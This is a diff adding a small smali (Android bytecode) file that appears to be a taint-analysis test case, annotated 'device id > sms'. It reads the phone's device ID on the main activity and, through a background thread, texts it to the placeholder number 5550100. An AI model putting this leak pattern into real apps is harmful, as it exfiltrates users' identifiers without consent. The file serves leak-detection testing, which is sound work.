@@ -1,0 +1,62 @@
+# given to a thread's job
+# expect: device id > sms
+
+.class public Lsample/Main;
+.super Landroid/app/Activity;
+
+.field public static phone:Landroid/telephony/TelephonyManager;
+
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
+    return-void
+.end method
+
+.method public onCreate(Landroid/os/Bundle;)V
+    .registers 12
+    sget-object v0, Lsample/Main;->phone:Landroid/telephony/TelephonyManager;
+    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    move-result-object v0
+    new-instance v1, Lsample/Job;
+    invoke-direct {v1, v0}, Lsample/Job;-><init>(Ljava/lang/String;)V
+    new-instance v2, Ljava/lang/Thread;
+    invoke-direct {v2, v1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
+    invoke-virtual {v2}, Ljava/lang/Thread;->start()V
+    return-void
+.end method
+
+.class public Lsample/Job;
+.super Ljava/lang/Object;
+.implements Ljava/lang/Runnable;
+
+.field private final kept:Ljava/lang/String;
+
+.method public constructor <init>(Ljava/lang/String;)V
+    .registers 2
+    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
+    iput-object p1, p0, Lsample/Job;->kept:Ljava/lang/String;
+    return-void
+.end method
+
+.method public run()V
+    .registers 2
+    iget-object v0, p0, Lsample/Job;->kept:Ljava/lang/String;
+    invoke-static {v0}, Lsample/Out;->send(Ljava/lang/String;)V
+    return-void
+.end method
+
+.class public Lsample/Out;
+.super Ljava/lang/Object;
+
+.method public static send(Ljava/lang/String;)V
+    .registers 8
+    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
+    move-result-object v0
+    const-string v1, "5550100"
+    const/4 v2, 0x0
+    move-object v3, p0
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    return-void
+.end method
